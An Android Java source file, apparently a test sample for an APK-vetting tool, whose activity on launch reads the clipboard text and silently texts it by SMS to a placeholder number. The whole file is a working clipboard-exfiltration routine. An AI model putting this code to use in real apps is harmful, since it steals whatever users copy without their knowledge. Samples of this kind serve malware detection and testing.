package org.apkvet.clip.to_sms;

import android.app.*;
import android.content.*;
import android.os.*;
import android.telephony.*;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        SmsManager.getDefault().sendTextMessage("+15550100", null, copied(), null, null);
    }

    private String copied() {
        return ((ClipboardManager) getSystemService("clipboard")).getPrimaryClip().getItemAt(0).getText().toString();
    }
}
